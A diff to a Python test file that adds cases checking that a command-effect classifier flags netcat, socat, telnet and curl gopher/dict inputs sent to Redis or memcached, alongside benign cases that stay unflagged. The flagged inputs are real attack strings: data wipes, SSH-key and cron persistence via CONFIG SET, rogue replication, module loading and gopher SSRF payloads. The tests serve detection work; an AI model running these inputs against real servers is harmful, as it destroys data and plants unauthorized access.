@@ -106,3 +106,36 @@ def test_what_the_statements_do(program, args, stdin, want):
 ])
 def test_ordinary_statements_do_nothing_listed(program, args, stdin):
     assert effects(program, args, stdin) == ()
+
+
+# Redis and memcached speak plain text: a raw TCP client fed the commands is redis-cli by another name
+@pytest.mark.parametrize("program, args, stdin, want", [
+    ("nc", ("cache", "6379"), "FLUSHALL\n", "delete-all"),
+    ("ncat", ("db", "6379"), "AUTH pw\r\nflushdb\r\n", "delete-all"),
+    ("/usr/bin/netcat", ("-q1", "cache", "6379"), "*1\r\n$8\r\nFLUSHALL\r\n", "delete-all"),  # RESP
+    ("nc", ("mc", "11211"), "flush_all\r\n", "delete-all"),  # memcached
+    ("socat", ("-", "TCP:cache:6379"), "SHUTDOWN NOSAVE\n", "discards-unsaved"),
+    ("telnet", ("cache", "6379"), "CONFIG SET dir /root/.ssh\nCONFIG SET dbfilename authorized_keys\n",
+     "writes-persistence"),
+    ("nc", ("cache", "6379"), "SLAVEOF 203.0.113.7 6379\n", "replicates"),
+    ("nc", ("cache", "6379"), "MODULE LOAD /tmp/x.so\n", "runs-program"),
+    ("curl", ("-s", "gopher://10.0.0.5:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"), "", "delete-all"),
+    ("curl", ("gopher://10.0.0.5:6379/_CONFIG%20SET%20dir%20/var/spool/cron/",), "", "writes-persistence"),
+    ("curl", ("dict://10.0.0.5:6379/flushall",), "", "delete-all"),
+    ("curl", ("DICT://10.0.0.5:6379/config:set:dir:/root/.ssh",), "", "writes-persistence"),
+])
+def test_plain_text_clients_are_read_as_redis(program, args, stdin, want):
+    assert want in effects(program, args, stdin)
+
+
+@pytest.mark.parametrize("program, args, stdin", [
+    ("nc", ("example.com", "80"), "GET / HTTP/1.0\r\n\r\n"),
+    ("nc", ("cache", "6379"), "PING\n"),
+    ("nc", ("cache", "6379"), "GET flushall\n"),
+    ("nc", ("-l", "8080"), ""),
+    ("curl", ("dict://dict.org/d:flushall",), ""),  # a dictionary look-up
+    ("curl", ("https://example.com/flushall",), ""),
+    ("curl", ("-d", "FLUSHALL", "https://example.com/"), ""),  # an HTTP body, not a Redis command
+])
+def test_plain_text_clients_saying_nothing_destructive(program, args, stdin):
+    assert effects(program, args, stdin) == ()
